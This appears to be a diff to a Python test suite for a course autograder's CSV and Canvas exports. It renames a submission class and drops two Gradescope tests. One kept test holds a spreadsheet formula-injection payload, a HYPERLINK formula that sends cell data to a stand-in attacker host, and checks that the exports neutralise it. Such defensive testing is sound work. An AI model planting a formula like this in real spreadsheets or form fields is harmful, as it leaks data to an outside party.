@@ -17,10 +17,9 @@ from grader.batch.exports import (
     canvas_csv,
     csv_cell,
     gradebook_csv,
-    gradescope_results,
     write_exports,
 )
-from grader.batch.intake import Submission, collect_submissions
+from grader.batch.intake import StudentSubmission, collect_submissions
 from grader.results import Student
 
 
@@ -46,23 +45,6 @@ def test_canvas_csv_layout(class_rows):
     assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "MatMul (lab 5)"]
     assert rows[1][0] == "Points Possible" and rows[1][5] == "10"
     assert rows[2] == ["Alice", "", "alice", "", "A1", "10"]
-
-
-def test_gradescope_results_follow_the_spec(class_rows):
-    doc = gradescope_results(class_rows[2].result)
-    assert doc["score"] == 4.0
-    allowed_top = {"score", "execution_time", "output", "output_format", "test_output_format", "test_name_format",
-                   "visibility", "stdout_visibility", "extra_data", "tests", "leaderboard"}
-    assert set(doc) <= allowed_top
-    allowed_test = {"score", "max_score", "status", "name", "name_format", "number", "output", "output_format",
-                    "tags", "visibility", "extra_data"}
-    for test in doc["tests"]:
-        assert set(test) <= allowed_test
-        assert test.get("status", "passed") in ("passed", "failed")
-    scored = [t for t in doc["tests"] if "score" in t]
-    assert sum(t["score"] for t in scored) == doc["score"]
-    assert "modelled (mlu370-x8)" in next(t for t in doc["tests"] if t["name"].startswith("Stage"))["output"]
-    json.dumps(doc)
 
 
 def test_write_exports_lays_out_the_batch_folder(tmp_path, class_rows):
@@ -140,7 +122,7 @@ def test_formula_cells_are_neutralised():
 def test_a_formula_in_a_name_or_message_reaches_no_spreadsheet_as_a_formula(class_rows):
     attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     alice = class_rows[0]
-    rows = [ClassRow(Submission(attack, "@evil", "x", alice.submission.path, content_hash="0" * 64),
+    rows = [ClassRow(StudentSubmission(attack, "@evil", "x", alice.submission.path, content_hash="0" * 64),
                      alice.result.model_copy(update={"message": "-1 stage left", "student": Student(name=attack)}))]
     for text in (gradebook_csv(rows), canvas_csv(rows, "=title")):
         for cells in list(csv.reader(io.StringIO(text))):
@@ -163,10 +145,3 @@ def test_names_come_from_the_roster_or_folder_never_grade_toml(tmp_path, class_r
     student = list(csv.DictReader(io.StringIO(gradebook_csv(rows))))[1]
     assert (student["student_id"], student["name"]) == ("s042", "s042")
     assert list(csv.reader(io.StringIO(canvas_csv(rows, "t"))))[2][0] == "s042"
-
-
-def test_integrity_findings_reach_gradescope(class_rows):
-    result = class_rows[0].result.model_copy(update={"integrity": ["sigmoid(), case n64: kernels wrote 0 of 256"]})
-    doc = gradescope_results(result)
-    (test,) = [t for t in doc["tests"] if t["name"].startswith("Integrity")]
-    assert test["status"] == "failed" and "kernels wrote 0" in test["output"]
